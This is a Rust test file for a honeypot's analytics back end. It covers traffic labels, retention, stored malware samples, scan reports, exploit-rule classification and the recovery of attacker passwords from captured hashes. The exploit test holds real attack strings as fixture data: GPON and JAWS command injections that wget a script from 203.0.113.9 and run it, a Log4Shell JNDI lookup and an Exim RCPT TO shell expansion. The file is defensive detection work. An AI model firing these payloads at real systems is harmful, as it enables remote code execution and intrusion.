        let q = Query { since_ms: Some(1_714_000_000_000), until_ms: Some(1_715_000_000_000), ..Default::default() };
        let rep = analytics::report(&*db, &q, 0, 50).unwrap();
        let own_all =
            analytics::report(&*attacks_and_own, &Query { include: Include::ALL, ..q.clone() }, 0, 50).unwrap();
        let att = analytics::totals(&*attacks, &q).unwrap();
        let selfie = rep.labelled.iter().find(|l| l.label == "self").unwrap();
        assert!(!selfie.included);
        assert_eq!(selfie.attempts, own_all.totals.attempts - att.attempts);
        assert_eq!(selfie.logins, own_all.totals.logins - att.logins);
        assert_eq!((selfie.attackers, selfie.top_sources[0].ip.as_str()), (1, "192.0.2.50"));
        assert_eq!(selfie.top_sources[0].label.as_deref(), Some("self"));
        let research = rep.labelled.iter().find(|l| l.label == "research").unwrap();
        assert_eq!(research.attackers, 2);
        let mut ips: Vec<&str> = research.top_sources.iter().map(|s| s.ip.as_str()).collect();
        ips.sort_unstable();
        assert_eq!(ips, vec!["162.142.125.7", "2602:80d:1000::7"]);
        assert!(research.top_sources.iter().all(|s| s.label.as_deref() == Some("research")));
        assert!(research.attempts > 0);
        let all = analytics::report(&*db, &Query { include: Include::ALL, ..q.clone() }, 0, 50).unwrap();
        let label_of = |ip: &str| all.top_sources.rows.iter().find(|r| r.ip == ip).map(|r| r.label.clone());
        assert_eq!(label_of("192.0.2.50"), Some(Some("self".into())));
        assert_eq!(label_of("162.142.125.7"), Some(Some("research".into())));
        assert_eq!(label_of("2602:80d:1000::7"), Some(Some("research".into())));
        assert_eq!(label_of("203.0.113.10"), Some(None));
        // The export carries the label of every row.
        let mut out = Vec::new();
        crate::export::export(&*db, &q, crate::export::Format::Csv, &mut out).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert!(text.lines().next().unwrap().ends_with(",label"));
        let labels: std::collections::BTreeSet<&str> =
            text.lines().skip(1).map(|l| l.rsplit(',').next().unwrap()).collect();
        assert_eq!(labels.into_iter().collect::<Vec<_>>(), vec!["", "research", "self"]);
        // Removing the label puts the own traffic back, history included.
        assert!(crate::labels::remove(db, "192.0.2.50").unwrap());
        assert!(!crate::labels::remove(db, "192.0.2.50").unwrap());
        analytics::relabel(db, &en).unwrap();
        assert_eq!(numbers(db, def), want_with_own, "unlabelled again, exactly");
        // A custom label is shown but counted.
        crate::labels::add(db, "192.0.2.0/24", &Label::Custom("lab".into()), "", 10, 1).unwrap();
        analytics::relabel(db, &en).unwrap();
        assert_eq!(numbers(db, def), want_with_own);
        let t = analytics::top_sources(&*db, &q, 0, 50).unwrap();
        assert_eq!(t.rows.iter().find(|r| r.ip == "192.0.2.50").unwrap().label.as_deref(), Some("lab"));
    }
}

#[test]
fn labels_are_capped_and_the_raw_mark_only_moves_forward() {
    use crate::labels::{Label, LabelError, LabelsError};
    for (db, _dir) in backends() {
        let db = &*db;
        crate::labels::add(db, "10.0.0.0/8", &Label::SelfTest, "", 2, 1).unwrap();
        crate::labels::add(db, "2001:db8::/32", &Label::Research, "scanner", 2, 2).unwrap();
        // Full: a new network is refused, naming the key; replacing one is not.
        let e = crate::labels::add(db, "10.1.0.0/16", &Label::SelfTest, "", 2, 3).unwrap_err();
        assert!(matches!(e, LabelsError::Label(LabelError::Full(2))), "{e}");
        assert!(e.to_string().contains("[labels] max_labels"), "{e}");
        crate::labels::add(db, "10.9.9.9/8", &Label::Custom("lab".into()), "moved", 2, 4).unwrap();
        let list = db.labels().unwrap();
        let got: Vec<(&str, &str, &str)> =
            list.iter().map(|l| (l.cidr.as_str(), l.label.as_str(), l.note.as_str())).collect();
        assert_eq!(got, vec![("10.0.0.0/8", "lab", "moved"), ("2001:db8::/32", "research", "scanner")]);
        assert!(crate::labels::add(db, "300.1.1.1", &Label::SelfTest, "", 2, 5).is_err());
        assert_eq!(db.raw_from().unwrap(), 0);
        db.set_raw_from(500).unwrap();
        db.set_raw_from(100).unwrap();
        assert_eq!(db.raw_from().unwrap(), 500);
    }
}

#[test]
fn relabel_keeps_the_labels_of_buckets_whose_raw_events_retention_deleted() {
    use crate::labels::{Include, Label};
    const DAY: i64 = DAY_MS;
    let t0 = 1_714_521_600_000; // a day boundary (a Wednesday)
    let en = crate::enrich::Enricher::new(&Default::default()).unwrap();
    for (mut db, _dir) in backends() {
        let db = &mut *db;
        // One connection a day from 192.0.2.9 for ten days.
        let evs: Vec<Event> = (0..10)
            .map(|d| {
                let mut e = ev(0);
                e.time_ms = t0 + d * DAY + 1000;
                e.src_ip = "192.0.2.9".parse().unwrap();
                e
            })
            .collect();
        commit_next(db, evs);
        let cfg = crate::retention::RetentionConfig { max_age_days: 5, max_bytes: 0, ..Default::default() };
        let now = t0 + 10 * DAY;
        let st = crate::retention::prune(db, &cfg, &en, now).unwrap();
        assert!(st.events_by_age >= 4, "{st:?}");
        let cutoff = now - 5 * DAY;
        assert_eq!(db.raw_from().unwrap(), cutoff);
        // Labelled after its old events are gone: only the buckets still whole in the raw
        // events are rewritten (PostgreSQL keeps up to a day more, which changes nothing here).
        crate::labels::add(db, "192.0.2.9", &Label::SelfTest, "", 10, 1).unwrap();
        let r = analytics::relabel(db, &en).unwrap();
        assert_eq!(r.kept_before_ms, Some(cutoff));
        let q = |from, to, inc| Query { since_ms: Some(from), until_ms: Some(to), sensor: None, include: inc };
        assert_eq!(analytics::totals(&*db, &q(t0, now, Include::ALL)).unwrap().attempts, 10, "nothing lost");
        // (Day-resolved ranges: a week row that began before the mark keeps its labels too.)
        let before = analytics::totals(&*db, &q(t0, cutoff, Include::default())).unwrap();
        assert_eq!(before.attempts, 5, "the days before the cutoff keep their old (no) label");
        let after = analytics::totals(&*db, &q(cutoff, now, Include::default())).unwrap();
        assert_eq!(after.attempts, 0, "the days after it are rewritten");
        let l = analytics::labelled(&*db, &q(cutoff, now, Include::default()), 5).unwrap();
        assert_eq!(l.iter().find(|l| l.label == "self").unwrap().attempts, 5);
    }
}

fn sample_ev(seq: u64, t: i64, sha: [u8; 32], name: &str, protocol: Protocol) -> Event {
    Event {
        time_ms: t,
        protocol,
        detail: Detail::Sample {
            sha256: sha,
            size: 10,
            name: name.into(),
            source: "ftp-stor".into(),
            outcome: drosera_uplink::event::SampleOutcome::Kept,
        },
        ..ev(seq)
    }
}

fn new_sample(sha: [u8; 32], stored_bytes: i64, rule: Option<&str>) -> NewSample {
    NewSample {
        sha256: hex::encode(sha),
        md5: "m".repeat(32),
        sha1: "s".repeat(40),
        size: 10,
        stored_bytes,
        file_type: "ELF 32-bit LSB executable, ARM".into(),
        rules_version: "v1".into(),
        matches: rule
            .map(|r| vec![SampleMatch { namespace: "drosera".into(), rule: r.into(), tags: "mirai".into() }])
            .unwrap_or_default(),
    }
}

fn samples_are_recorded_once_with_sightings_names_and_matches(db: &dyn Storage) {
    let (a, b, c) = ([0xaa; 32], [0xbb; 32], [0xcc; 32]);
    let (ha, hb, hc) = (hex::encode(a), hex::encode(b), hex::encode(c));
    sensors::register(db, "pi-1", "x1", 0).unwrap();
    sensors::register(db, "pi-2", "x2", 0).unwrap();
    let s1 = db.enrollment("pi-1").unwrap().unwrap().sensor_id;
    let s2 = db.enrollment("pi-2").unwrap().unwrap().sensor_id;
    // Sightings arrive with the events, before or after the bytes; a resent batch adds nothing.
    let batch = vec![sample_ev(1, 5_000, a, "/tmp/x86", Protocol::Ftp), sample_ev(2, 9_000, b, "b.sh", Protocol::Http)];
    for _ in 0..2 {
        assert_eq!(commit(db, s1, 2, &batch), BatchOutcome::Ack(2));
    }
    assert_eq!(db.samples_known(&[ha.clone(), hb.clone(), hc.clone()]).unwrap(), Vec::<String>::new());
    assert_eq!(db.store_sample(&new_sample(a, 100, Some("Mirai")), 250, 20_000).unwrap(), SampleStored::Stored);
    assert_eq!(db.store_sample(&new_sample(a, 100, None), 250, 20_000).unwrap(), SampleStored::AlreadyHad);
    assert_eq!(db.store_sample(&new_sample(b, 100, None), 250, 20_000).unwrap(), SampleStored::Stored);
    // 200 stored + 100 > 250: refused, nothing recorded.
    assert_eq!(db.store_sample(&new_sample(c, 100, None), 250, 20_000).unwrap(), SampleStored::Full);
    let mut known = db.samples_known(&[ha.clone(), hb.clone(), hc.clone()]).unwrap();
    known.sort();
    assert_eq!(known, vec![ha.clone(), hb.clone()]);
    // A second sensor sees `a` under another name, later.
    assert_eq!(commit(db, s2, 1, &[sample_ev(1, 30_000, a, "mips.bin", Protocol::Telnet)]), BatchOutcome::Ack(1));
    let d = db.sample_detail(&ha, 10).unwrap().unwrap();
    assert_eq!(d.summary.sightings, 2);
    assert_eq!((d.summary.first_seen_ms, d.summary.last_seen_ms), (5_000, 30_000));
    assert_eq!(d.names, vec!["/tmp/x86".to_string(), "mips.bin".to_string()]);
    assert_eq!(d.sightings[0].sensor, "pi-2");
    assert_eq!(d.sightings[0].protocol, "telnet");
    assert_eq!(d.sightings[1].source, "ftp-stor");
    assert_eq!(d.summary.rules, vec!["Mirai".to_string()]);
    assert_eq!(d.matches[0].tags, "mirai");
    assert!(db.sample_detail(&hc, 10).unwrap().is_none());
    // Filters.
    let f = |file_type: Option<&str>, rule: Option<&str>, protocol: Option<&str>, sensor: Option<&str>| {
        let filter = SampleFilter {
            file_type: file_type.map(Into::into),
            rule: rule.map(Into::into),
            protocol: protocol.map(Into::into),
            sensor: sensor.map(Into::into),
        };
        db.list_samples(&filter, 100).unwrap().into_iter().map(|s| s.sha256).collect::<Vec<_>>()
    };
    assert_eq!(f(None, None, None, None), vec![ha.clone(), hb.clone()], "newest last sighting first");
    assert_eq!(f(Some("elf"), None, None, None).len(), 2);
    assert!(f(Some("PE32"), None, None, None).is_empty());
    assert_eq!(f(None, Some("Mirai"), None, None), vec![ha.clone()]);
    assert_eq!(f(None, None, Some("http"), None), vec![hb.clone()]);
    assert_eq!(f(None, None, None, Some("pi-2")), vec![ha.clone()]);
    assert_eq!(f(None, Some("Mirai"), Some("http"), None), Vec::<String>::new());
    // Rescan: samples of another rules version, then reclassified.
    assert_eq!(db.samples_to_rescan("v1", 10).unwrap(), Vec::<String>::new());
    assert_eq!(db.samples_to_rescan("v2", 10).unwrap().len(), 2);
    db.set_sample_classification(&ha, "ELF 32-bit MSB executable, MIPS", "v2", &[]).unwrap();
    assert_eq!(db.samples_to_rescan("v2", 10).unwrap(), vec![hb.clone()]);
    assert!(f(None, Some("Mirai"), None, None).is_empty());
    // Retention by last sighting: b (9 s) goes, a (30 s) stays; sightings stay.
    assert_eq!(db.delete_samples_seen_before(10_000, 100).unwrap(), vec![hb.clone()]);
    assert_eq!(f(None, None, None, None), vec![ha.clone()]);
    // Rejections are kept bounded, newest first.
    for i in 0..5 {
        db.record_sample_rejection(s1, &hc, &format!("r{i}"), i, 3).unwrap();
    }
    let r = db.sample_rejections(10).unwrap();
    assert_eq!(r.len(), 3);
    assert_eq!((r[0].1.as_str(), r[0].3.as_str()), ("pi-1", "r4"));
}

#[test]
fn samples() {
    for (db, _held) in backends() {
        samples_are_recorded_once_with_sightings_names_and_matches(&*db);
    }
}

fn scan_ev(
    seq: u64,
    t: i64,
    ip: &str,
    transport: Transport,
    ports: Vec<u16>,
    packets: u64,
    fps: &[(&str, u64)],
) -> Event {
    let mut e = ev(seq);
    e.time_ms = t;
    e.session_id = 0;
    e.transport = transport;
    e.protocol = Protocol::Scan;
    e.src_ip = ip.parse().unwrap();
    e.dst_port = ports.first().copied().unwrap_or(0);
    e.detail = Detail::ScanWindow {
        window_start_ms: t - t % 60_000,
        window_ms: 60_000,
        packets,
        distinct_ports: ports.len() as u32,
        distinct_exact: true,
        ports,
        fingerprints: fps.iter().map(|(n, c)| (n.to_string(), *c)).collect(),
        kernel_drops: if ip == "0.0.0.0" { 4 } else { 0 },
    };
    e
}

/// Scan windows from the sensors' scan detection reach the report, the dashboard's data and the
/// per-event export on every backend: top scanned ports, top scanners with their fingerprints,
/// unattributed packets and kernel drops, and the protocol table's `scan` row.
#[test]
fn scan_windows_make_the_scan_report() {
    const T0: i64 = 1_714_521_600_000;
    let mut results = Vec::new();
    for (mut db, _dir) in backends() {
        sensors::register(&*db, "pi-scan", "ab", 0).unwrap();
        let id = db.enrollment("pi-scan").unwrap().unwrap().sensor_id;
        let evs = vec![
            scan_ev(1, T0 + 1000, "198.51.100.7", Transport::Tcp, (1..=200).collect(), 200, &[("nmap", 200)]),
            scan_ev(2, T0 + 2000, "203.0.113.9", Transport::Tcp, vec![23, 2323], 60, &[("mirai", 60)]),
            scan_ev(3, T0 + 61_000, "203.0.113.9", Transport::Tcp, vec![23], 10, &[("mirai", 10)]),
            scan_ev(4, T0 + 3000, "203.0.113.9", Transport::Udp, vec![161], 5, &[]),
            scan_ev(5, T0 + 4000, "0.0.0.0", Transport::Tcp, vec![22, 23], 1000, &[("zmap", 3)]),
        ];
        assert!(matches!(commit(&*db, id, 5, &evs), BatchOutcome::Ack(_)));
        let en = crate::enrich::Enricher::new(&Default::default()).unwrap();
        analytics::refresh(&mut *db, &en).unwrap();
        let q = analytics::Query {
            since_ms: Some(T0 - 3_600_000),
            until_ms: Some(T0 + 3_600_000),
            sensor: None,
            ..Default::default()
        };
        let s = analytics::scans(&*db, &q, 5).unwrap();
        assert_eq!((s.windows, s.packets, s.scanners), (5, 1275, 2));
        assert_eq!((s.unattributed_packets, s.kernel_drops, s.truncated), (1000, 4, false));
        let fps: Vec<(&str, i64)> = s.fingerprints.iter().map(|f| (f.value.as_str(), f.count)).collect();
        assert_eq!(fps, vec![("nmap", 200), ("mirai", 70), ("zmap", 3)]);
        let ports: Vec<(i64, &str, i64)> =
            s.top_ports.iter().map(|p| (p.port, p.transport.as_str(), p.windows)).collect();
        assert_eq!(ports, vec![(23, "tcp", 3), (1, "tcp", 1), (2, "tcp", 1), (3, "tcp", 1), (4, "tcp", 1)]);
        assert_eq!(s.top_scanners.len(), 2);
        let top = &s.top_scanners[0];
        assert_eq!((top.ip.as_str(), top.packets, top.windows, top.max_distinct_ports), ("198.51.100.7", 200, 1, 200));
        let mirai = &s.top_scanners[1];
        assert_eq!((mirai.packets, mirai.windows), (75, 3));
        assert_eq!(mirai.fingerprints[0].value, "mirai");
        // The report carries it, in JSON and text; the protocol table has a scan row, no attempts.
        let report = analytics::report(&*db, &q, 0, 5).unwrap();
        assert_eq!(report.scans, s);
        let scan_row = report.protocols.iter().find(|p| p.protocol == "scan").expect("scan in the protocol table");
        assert_eq!((scan_row.attempts, scan_row.events), (0, 5));
        assert_eq!(report.totals.attempts, 0, "scans are not attempts");
        let text = report.to_text();
        assert!(
            text.contains("Scans: 1275 packets") && text.contains("198.51.100.7") && text.contains("mirai 70"),
            "{text}"
        );
        // The per-event export has every scan window with typed numbers.
        let mut out = Vec::new();
        let eq = analytics::Query {
            since_ms: Some(T0 - 3_600_000),
            until_ms: Some(T0 + 3_600_000),
            sensor: None,
            ..Default::default()
        };
        crate::export::export(&*db, &eq, crate::export::Format::EventsJsonl, &mut out).unwrap();
        let lines: Vec<serde_json::Value> =
            String::from_utf8(out).unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect();
        let scans: Vec<&serde_json::Value> = lines.iter().filter(|l| l["kind"] == "scan_window").collect();
        assert_eq!(scans.len(), 5);
        assert!(scans
            .iter()
            .any(|l| l["packets"] == 200 && l["fingerprints"] == "nmap:200" && l["distinct_exact"] == true));
        results.push(serde_json::to_string(&s).unwrap());
    }
    for r in &results[1..] {
        assert_eq!(r, &results[0], "scans differ between backends");
    }
}

// ---------------------------------------------------------------------------------------------
// Exploit rules: derived at ingest, listed with their CVEs, exported, re-applied by reclassify.

fn http_ev(seq: u64, t: i64, method: &str, path: &str, query: &str, ua: &str) -> Event {
    let mut e = ev(seq);
    e.time_ms = t;
    e.detail = Detail::HttpRequest {
        method: method.into(),
        path: path.into(),
        query: query.into(),
        host: "198.51.100.1".into(),
        user_agent: ua.into(),
        body_sha256: None,
        body_len: 0,
        extra: vec![],
    };
    e
}

fn names_of(rows: &[analytics::ItemRow]) -> Vec<(String, String, i64)> {
    let mut v: Vec<(String, String, i64)> = rows.iter().map(|r| (r.key.clone(), r.detail.clone(), r.count)).collect();
    v.sort();
    v
}

fn exploit_rules_at_ingest_and_reclassify(db: &mut dyn Storage) {
    use crate::exploits::{reclassify::reclassify, ExploitsConfig, Matcher};
    const T: i64 = 1_714_521_600_000; // a day boundary
    sensors::register(db, "pi", "aa", 0).unwrap();
    let id = db.enrollment("pi").unwrap().unwrap().sensor_id;
    let mut body = ev(2);
    body.time_ms = T + 2;
    let gpon = b"XWebPageName=diag&diag_action=ping&dest_host=`busybox+wget+http://203.0.113.9/g.sh+-O+->/tmp/g`";
    body.detail = Detail::Payload {
        sha256: [9; 32],
        size: 90,
        name: "/GponForm/diag_Form".into(),
        prefix: gpon.to_vec(),
        truncated: false,
    };
    let mut smtp = ev(6);
    smtp.time_ms = T + 6;
    smtp.protocol = Protocol::Smtp;
    smtp.detail = Detail::Command { line: "RCPT TO:<${run{\\x2Fbin\\x2Fsh\\t-c\\t\\x22id\\x22}}@localhost>".into() };
    let mut smb = ev(7);
    smb.time_ms = T + 7;
    smb.protocol = Protocol::Smb;
    smb.detail = Detail::Exploit { name: "ms17-010".into(), cve: "CVE-2017-0144".into(), extra: vec![] };
    let mut last = ev(8);
    last.time_ms = T + 2 * DAY_MS;
    let evs = vec![
        http_ev(1, T + 1, "POST", "/GponForm/diag_Form", "images/", "Hello, World"),
        body,
        http_ev(3, T + 3, "GET", "/shell", "cd+/tmp;wget+http://203.0.113.9/jaws;sh+jaws", "Hello, world"),
        http_ev(4, T + 4, "GET", "/", "", "${${lower:j}ndi:ldap://203.0.113.9:1389/a}"),
        http_ev(5, T + 5, "GET", "/index.html", "", "Mozilla/5.0"),
        smtp,
        smb,
        last,
    ];
    assert_eq!(commit(db, id, 8, &evs), BatchOutcome::Ack(8));
    let q = Query { since_ms: Some(T - 3_600_000), until_ms: Some(T + 3_600_000), sensor: None, ..Default::default() };
    let en = crate::enrich::Enricher::new(&Default::default()).unwrap();
    analytics::refresh(db, &en).unwrap();
    let mut shipped = vec![
        ("GPON router auth bypass and diag_Form RCE".to_string(), "CVE-2018-10561, CVE-2018-10562".to_string(), 1),
        ("JAWS/MVPower DVR shell RCE".to_string(), String::new(), 1),
        ("Log4Shell JNDI lookup".to_string(), "CVE-2021-44228, CVE-2021-45046".to_string(), 1),
        ("Exim RCPT TO expansion RCE".to_string(), "CVE-2019-10149".to_string(), 1),
        ("ms17-010".to_string(), "CVE-2017-0144".to_string(), 1),
    ];
    shipped.sort();
    assert_eq!(names_of(&analytics::exploits(&*db, &q, 50).unwrap()), shipped);
    let downloads = vec![
        ("http://203.0.113.9/g.sh".to_string(), "wget".to_string(), 1),
        ("http://203.0.113.9/jaws".to_string(), "wget".to_string(), 1),
        ("ldap://203.0.113.9:1389/a".to_string(), "jndi".to_string(), 1),
    ];
    assert_eq!(names_of(&analytics::downloads(&*db, &q, 50).unwrap()), downloads);
    // One sensor's lists, and a list that stops early, read the derived records too.
    let mine = Query { sensor: Some("pi".into()), ..q.clone() };
    assert_eq!(analytics::exploits(&*db, &mine, 50).unwrap().len(), 5);
    assert_eq!(analytics::exploits(&*db, &q, 2).unwrap().len(), 2);
    // The export carries them: per event and per attack.
    let (_, text) = export_text(db);
    // Compared as JSON values: key order inside an object is serde_json's (insertion order when
    // the `yara` feature's yara-x turns on `preserve_order`, sorted otherwise).
    let gpon = serde_json::json!({"name": "GPON router auth bypass and diag_Form RCE", "cve": "CVE-2018-10561, CVE-2018-10562"});
    let first_exploits = text
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .find_map(|v| v.get("exploits").and_then(|e| e.get(0)).cloned());
    assert_eq!(first_exploits.as_ref(), Some(&gpon), "{text}");
    assert!(text.contains("GPON router auth bypass and diag_Form RCE (CVE-2018-10561, CVE-2018-10562)"), "{text}");
    assert!(text.contains("http://203.0.113.9/jaws"), "{text}");

    // Reclassify with the same rules changes nothing, in any batch size.
    let builtin = Matcher::builtin(&ExploitsConfig::default()).unwrap();
    for batch in [1, 2, 1000] {
        let r = reclassify(&*db, &builtin, batch).unwrap();
        assert_eq!((r.scanned, r.changed), (6, 0), "batch {batch}");
    }
    // A new rule: history gets it, exactly once, and a second run changes nothing.
    let mut more = Matcher::builtin(&ExploitsConfig::default()).unwrap();
    more.add(
        crate::exploits::rules::parse(
            "test",
            "[[rule]]\nname = \"Index probe\"\ncve = [\"CVE-1999-0001\"]\nprotocols = [\"http\"]\n[[rule.when]]\nfield = \"path\"\nequals = \"/index.html\"\n",
        )
        .unwrap(),
    );
    assert_eq!(reclassify(&*db, &more, 2).unwrap().changed, 1);
    assert_eq!(reclassify(&*db, &more, 2).unwrap().changed, 0);
    let mut with_new = shipped.clone();
    with_new.push(("Index probe".to_string(), "CVE-1999-0001".to_string(), 1));
    with_new.sort();
    assert_eq!(names_of(&analytics::exploits(&*db, &q, 50).unwrap()), with_new);
    // The rule removed again: back to the shipped results (the body's URL was kept and still
    // counts: reclassify reads the kept body text).
    assert_eq!(reclassify(&*db, &builtin, 3).unwrap().changed, 1);
    assert_eq!(names_of(&analytics::exploits(&*db, &q, 50).unwrap()), shipped);
    assert_eq!(names_of(&analytics::downloads(&*db, &q, 50).unwrap()), downloads);
    // No rules at all: every derived record goes, the sensor's own exploit stays.
    let none = Matcher::empty(&ExploitsConfig::default());
    assert_eq!(reclassify(&*db, &none, 1000).unwrap().changed, 3 + 1);
    assert_eq!(names_of(&analytics::exploits(&*db, &q, 50).unwrap()), vec![shipped[4].clone()]);
    assert_eq!(reclassify(&*db, &builtin, 1000).unwrap().changed, 4);
    // Retention takes the derived records with their events.
    // (PostgreSQL deletes whole days: the last event is two days later.)
    analytics::refresh(db, &en).unwrap();
    assert_eq!(db.delete_events_before(T + DAY_MS, 1000).unwrap(), 7);
    assert_eq!(names_of(&analytics::exploits(&*db, &q, 50).unwrap()), vec![]);
    assert!(analytics::downloads(&*db, &q, 50).unwrap().is_empty());
    assert_eq!(reclassify(&*db, &builtin, 1000).unwrap().scanned, 0);
}

#[test]
fn exploit_rules() {
    for (mut db, _dir) in backends() {
        exploit_rules_at_ingest_and_reclassify(&mut *db);
    }
}

// --- Password recovery (`storage::recovered`, `crate::recover`) ---------------------------------

fn hash_login_ev(
    seq: u64,
    t: i64,
    protocol: Protocol,
    user: &str,
    secret: drosera_uplink::event::Secret,
    extra: Vec<(String, String)>,
) -> Event {
    Event {
        protocol,
        time_ms: t,
        detail: Detail::Login { username: user.into(), secret, success: false, extra },
        ..ev(seq)
    }
}

fn mysql_native(password: &str, salt: &str) -> String {
    use sha1::{Digest, Sha1};
    let h1: [u8; 20] = Sha1::digest(password.as_bytes()).into();
    let h2: [u8; 20] = Sha1::digest(h1).into();
    let h3 = Sha1::new().chain_update(salt.as_bytes()).chain_update(h2).finalize();
    hex::encode(h1.iter().zip(h3.iter()).map(|(a, b)| a ^ b).collect::<Vec<u8>>())
}

fn passwords_behind_challenge_responses_are_recovered_once(db: &dyn Storage) {
    use drosera_uplink::event::Secret;
    sensors::register(db, "pi", "aa", 0).unwrap();
    let id = db.enrollment("pi").unwrap().unwrap().sensor_id;
    let now = 1_700_000_000_000;
    let salt = "0123456789abcdefghij";
    let hash = |format: &str, value: String| Secret::Hash { format: format.into(), value };
    let salted = vec![("salt".to_string(), salt.to_string())];
    let challenge: [u8; 16] = *b"fedcba9876543210";
    let vnc = format!(
        "$vnc$*{}*{}",
        hex::encode_upper(challenge),
        hex::encode_upper(crate::recover::algos::vnc_response(&challenge, b"only-in-clear"))
    );
    let events = vec![
        // In the bundled list.
        hash_login_ev(
            1,
            now,
            Protocol::Mysql,
            "root",
            hash("mysql_native_password-hex", mysql_native("letmein", salt)),
            salted.clone(),
        ),
        // Seen in clear on telnet, then used against VNC.
        hash_login_ev(2, now, Protocol::Telnet, "admin", Secret::Password("only-in-clear".into()), vec![]),
        hash_login_ev(3, now, Protocol::Vnc, "", hash("john-vnc", vnc), vec![]),
        // In no list.
        hash_login_ev(
            4,
            now,
            Protocol::Mysql,
            "sa",
            hash("mysql-native-hex", mysql_native("zq-nowhere-9", salt)),
            salted,
        ),
        // A format not checked here.
        hash_login_ev(5, now, Protocol::Sip, "100", hash("sip-digest-response", "00".into()), vec![]),
    ];
    assert_eq!(commit(db, id, 5, &events), BatchOutcome::Ack(5));
    assert_eq!(db.clear_passwords(0, 10).unwrap(), vec!["only-in-clear".to_string()]);
    assert_eq!(db.sample_totals().unwrap(), (0, 0), "the metrics' sample totals");
    let cfg = crate::recover::RecoverConfig::default();
    let s = crate::recover::run_once(db, &cfg, now + 1000).unwrap();
    assert_eq!((s.tried, s.recovered, s.unsupported, s.deferred), (3, 2, 1, 0), "{s:?}");
    // Nothing new: nothing tried again with the same candidate list.
    let again = crate::recover::run_once(db, &cfg, now + 2000).unwrap();
    assert_eq!((again.tried, again.unsupported), (0, 0), "{again:?}");
    let range = EventRange { since_ms: 0, until_ms: i64::MAX, sensor_id: None };
    let mut rec = db.recovered_passwords(&range, 10).unwrap();
    rec.sort_by(|a, b| a.protocol.cmp(&b.protocol));
    let got: Vec<(&str, &str, &str, i64)> =
        rec.iter().map(|r| (r.username.as_str(), r.password.as_str(), r.protocol.as_str(), r.count)).collect();
    assert_eq!(got, [("root", "letmein", "mysql", 1), ("", "only-in-clear", "vnc", 1)]);
    let other = EventRange { since_ms: 0, until_ms: i64::MAX, sensor_id: Some(id + 100) };
    assert!(db.recovered_passwords(&other, 10).unwrap().is_empty());
    // The export carries it on its event.
    let mut by_seq = Vec::new();
    db.export_events(&range, &mut |r| {
        by_seq.push((r.seq, r.recovered.map(str::to_string)));
        ControlFlow::Continue(())
    })
    .unwrap();
    by_seq.sort();
    assert_eq!(
        by_seq,
        [(1, Some("letmein".into())), (2, None), (3, Some("only-in-clear".into())), (4, None), (5, None)]
    );
    // A new clear password is a new candidate list: the unrecovered response is tried again.
    let more = [hash_login_ev(6, now, Protocol::Ftp, "x", Secret::Password("zq-nowhere-9".into()), vec![])];
    assert_eq!(commit(db, id, 6, &more), BatchOutcome::Ack(6));
    let s = crate::recover::run_once(db, &cfg, now + 3000).unwrap();
    assert_eq!((s.tried, s.recovered), (1, 1), "{s:?}");
    assert_eq!(db.recovered_passwords(&range, 10).unwrap().len(), 3);
    // Outside the look-back window nothing is tried.
    let late = crate::recover::run_once(db, &cfg, now + 30 * DAY_MS).unwrap();
    assert_eq!(late.tried + late.unsupported, 0);
    // The report lists them.
    let q =
        crate::analytics::Query { since_ms: Some(now - DAY_MS), until_ms: Some(now + DAY_MS), ..Default::default() };
    let c = crate::analytics::credentials(db, &q, 10).unwrap();
    assert_eq!(c.recovered.len(), 3, "{c:?}");
}

#[test]
fn password_recovery() {
    for (db, _held) in backends() {
        passwords_behind_challenge_responses_are_recovered_once(&*db);
    }
}
